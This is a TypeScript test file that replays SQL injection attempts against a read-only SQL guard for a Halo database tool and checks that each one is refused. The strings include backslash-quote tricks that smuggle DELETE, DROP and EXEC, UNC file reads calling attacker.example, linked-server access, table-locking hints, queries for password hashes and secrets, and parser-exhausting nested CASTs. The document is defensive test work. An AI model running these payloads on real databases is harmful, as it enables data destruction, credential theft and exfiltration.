/**
 * Attacks on the SQL guard, each replayed as it would be sent. The first ones passed the guard
 * that parsed with node-sql-parser alone: that parser reads a backslash before a quote as an
 * escape, so where SQL Server sees `'a\'` end and a DELETE follow, it saw one long string. The
 * others passed the guard that lexed first and then parsed: functions that read files by a UNC
 * path, names that reach a linked server, hints that lock Halo's tables, and the tables where
 * credentials are kept. The guard must refuse each, and none may reach Halo.
 */
import { describe, expect, it } from 'vitest';
import { ToolInputError } from '../../src/toolkit/errors.js';
import { checkReadOnlySelect } from '../../src/toolkit/sql.js';
import { useSandboxMcp } from '../helpers/setup.js';

/** Nested CAST, on which a general SQL parser takes time exponential in the depth: 8 deep held it 35-50 s, 10 deep ran it out of memory. */
const NESTED_CAST_8 = `SELECT ${'CAST('.repeat(8)}1`;
const NESTED_CAST_10 = `SELECT ${'CAST('.repeat(10)}1`;
const NESTED_CAST_5000 = `SELECT ${'CAST('.repeat(5000)}1${' AS int)'.repeat(5000)}`;

const ONE_STATEMENT = /one statement|read-only SELECT|-- comments/;
const OUTSIDE = /reaches outside Halo's database/;
const LOCKS = /lock what Halo writes/;
const CREDENTIALS = /credentials/;

/** What SQL Server would do with each, the text, and why the guard refuses it. */
const ATTACKS: readonly (readonly [string, string, RegExp])[] = [
  ['a DELETE after a string ended by a backslash', "SELECT 'a\\'; DELETE FROM faults; SELECT \\'x'", ONE_STATEMENT],
  ['a DELETE between two strings, the last hiding a -- from the parser', "SELECT 'a\\', 1; DELETE FROM faults; SELECT ' AS c -- '", ONE_STATEMENT],
  ['a DROP TABLE', "SELECT 'a\\', 1; DROP TABLE faults; SELECT ' AS c -- '", ONE_STATEMENT],
  ['a TRUNCATE', "SELECT 'a\\', 1; TRUNCATE TABLE faults; SELECT ' AS c -- '", ONE_STATEMENT],
  ['an EXEC of a stored procedure', "SELECT 'a\\', 1; EXEC sp_who; SELECT ' AS c -- '", ONE_STATEMENT],
  ['a DECLARE', "SELECT 'a\\' AS x; DECLARE @x int; SELECT ' AS c -- '", ONE_STATEMENT],
  ['lower-case statements', "select 'a\\', 1; delete from faults; select ' as c -- '", ONE_STATEMENT],
  ['a DELETE with no semicolons (T-SQL needs none)', "SELECT 'a\\' AS x DELETE FROM faults SELECT ' AS y -- '", ONE_STATEMENT],
  ['a DELETE on lines of its own', "SELECT 'a\\'\nDELETE FROM faults\nSELECT ' AS y -- '", ONE_STATEMENT],
  ['an UPDATE with no semicolons', "SELECT 'a\\', 1 UPDATE faults SET status = 9 SELECT ' AS c -- '", ONE_STATEMENT],
  ['a DISABLE TRIGGER (a word T-SQL does not reserve)', "SELECT 'a\\' AS x DISABLE TRIGGER ALL ON faults SELECT ' AS y -- '", ONE_STATEMENT],
  ['a SELECT INTO in a second statement', "SELECT 'a\\' AS x INTO copy FROM faults SELECT ' AS y -- '", ONE_STATEMENT],
  ['a SELECT INTO in the only statement', "SELECT 'a\\' AS x INTO copy FROM faults WHERE '' = ' -- '", ONE_STATEMENT],
  ['a SELECT INTO with more columns', "SELECT 'a\\' AS x, 1 AS y INTO copy FROM faults WHERE 1 = ' -- '", ONE_STATEMENT],
  ['a DELETE after a double-quoted name ended by a backslash', 'SELECT "a\\", 1; DELETE FROM faults; SELECT " AS c -- "', ONE_STATEMENT],
  ['a DELETE after an N string ended by a backslash', "SELECT N'a\\', 1; DELETE FROM faults; SELECT N' AS c -- '", ONE_STATEMENT],
  ['a -- comment hidden by a quote inside /* */', "SELECT faultid FROM faults /* ' */ -- '", ONE_STATEMENT],
  ['a -- comment that drops the rest of the line', "SELECT faultid FROM faults WHERE 1 = 1 /* ' */ -- ' AND faultid < 0", ONE_STATEMENT],
  ['a file read by UNC path: fn_xe_file_target_read_file', String.raw`SELECT * FROM sys.fn_xe_file_target_read_file('\\attacker.example\s\*.xel', NULL, NULL, NULL)`, OUTSIDE],
  ['a file read by UNC path: fn_get_audit_file', String.raw`SELECT * FROM sys.fn_get_audit_file('\\attacker.example\s\*', DEFAULT, DEFAULT)`, OUTSIDE],
  ['a file read by UNC path: fn_trace_gettable', String.raw`SELECT * FROM fn_trace_gettable('\\attacker.example\s\x.trc', DEFAULT)`, OUTSIDE],
  ['a UNC listing: dm_os_enumerate_filesystem', String.raw`SELECT * FROM sys.dm_os_enumerate_filesystem('\\attacker.example\s\', '*')`, OUTSIDE],
  ['a UNC probe: dm_os_file_exists', String.raw`SELECT * FROM sys.dm_os_file_exists('\\attacker.example\s\x')`, OUTSIDE],
  ['a backup file read by path: fn_dump_dblog', String.raw`SELECT * FROM fn_dump_dblog(NULL, NULL, N'DISK', 1, N'\\attacker.example\s\x.bak', DEFAULT, DEFAULT)`, OUTSIDE],
  ['OPENROWSET(BULK) reading a file', String.raw`SELECT * FROM OPENROWSET(BULK '\\attacker.example\s\x', SINGLE_CLOB) AS f`, ONE_STATEMENT],
  ['OPENDATASOURCE to another server', "SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=attacker.example').master.dbo.sysobjects", ONE_STATEMENT],
  ['OPENQUERY on a linked server', "SELECT * FROM OPENQUERY(LINKED, 'SELECT 1')", ONE_STATEMENT],
  ['a bracketed OPENROWSET', "SELECT * FROM [OPENROWSET]('SQLNCLI', 'x', 'SELECT 1')", OUTSIDE],
  ['an extended procedure', String.raw`SELECT * FROM master.dbo.xp_dirtree('\\attacker.example\s')`, OUTSIDE],
  ['a system procedure in FROM', 'SELECT * FROM sp_who', OUTSIDE],
  ['a linked server four-part name', 'SELECT * FROM [LINKED].master.dbo.sysobjects', /four parts/],
  ['a linked server name with the schema left out', 'SELECT * FROM LINKED.master..sysobjects', /four parts/],
  ['a lock hint TABLOCKX with HOLDLOCK', 'SELECT COUNT(*) FROM FAULTS WITH (TABLOCKX, HOLDLOCK)', LOCKS],
  ['a lock hint XLOCK', 'SELECT TOP 1 * FROM FAULTS WITH (XLOCK, ROWLOCK)', LOCKS],
  ['a lock hint without WITH', 'SELECT TOP 1 Faultid FROM FAULTS (UPDLOCK)', LOCKS],
  ['a SERIALIZABLE hint', 'SELECT Faultid FROM FAULTS WITH (SERIALIZABLE)', LOCKS],
  ['stored password field values', 'SELECT * FROM AUDITPASSWORDFIELD', CREDENTIALS],
  ['API application secrets', 'SELECT * FROM OpenIddictApplications', CREDENTIALS],
  ["Halo's sign-in applications", 'SELECT DisplayName, ClientSecret FROM NHD_IDENTITY_Application', CREDENTIALS],
  // A collation without _WS (SQL Server's default among them) finds full-width names as their ASCII twins.
  ['a password column in full-width letters', 'SELECT ｕｐａｓｓｗｏｒｄ FROM UNAME', CREDENTIALS],
  ['every column of a full-width UNAME', 'SELECT * FROM ＵＮＡＭＥ', CREDENTIALS],
  ["Halo's token table in full-width letters", 'SELECT * FROM ＮＨＤ＿ＩＤＥＮＴＩＴＹ＿Ｔｏｋｅｎ', CREDENTIALS],
  ['a file-reading function in full-width letters', "SELECT * FROM ｆｎ＿ｘｅ＿ｆｉｌｅ＿ｔａｒｇｅｔ＿ｒｅａｄ＿ｆｉｌｅ('\\\\h\\s\\*.xel', NULL, NULL, NULL)", OUTSIDE],
  ["agents' password hashes", 'SELECT uname, upassword FROM UNAME', CREDENTIALS],
  ['every column of the agents table', 'SELECT * FROM UNAME', CREDENTIALS],
  ["SQL Server's login hashes", 'SELECT name, password_hash FROM sys.sql_logins', CREDENTIALS],
  ['END CONVERSATION after a SELECT', "SELECT 1 END CONVERSATION '00000000-0000-0000-0000-000000000000'", ONE_STATEMENT],
  ['a ) that closes the subquery Halo wraps the query in', 'SELECT 1 AS a) AS t UNION SELECT (1', /closes no "\(/],
  [`${NESTED_CAST_8.length} characters of unclosed nested CAST`, NESTED_CAST_8, /never closed/],
  [`${NESTED_CAST_10.length} characters of unclosed nested CAST`, NESTED_CAST_10, /never closed/],
  ['CAST nested 5,000 deep', NESTED_CAST_5000, /nests parentheses more than 32 deep/],
];

describe('the SQL guard refuses', () => {
  it.each(ATTACKS)('%s', (_what, sql, reason) => {
    expect(() => checkReadOnlySelect(sql)).toThrow(ToolInputError);
    expect(() => checkReadOnlySelect(sql)).toThrow(reason);
  });
});

describe('the attacks through halo_run_sql', () => {
  const { sandbox, mcp } = useSandboxMcp({ settings: { toolsets: ['reports'], allowSql: true } });

  it('are refused, and none reaches Halo', async () => {
    await sandbox.clearRequests();
    for (const [what, sql] of ATTACKS) {
      const answer = await mcp.call('halo_run_sql', { sql });
      expect(answer.isError, what).toBe(true);
    }
    expect(await sandbox.apiRequests('POST')).toEqual([]);
  });
});
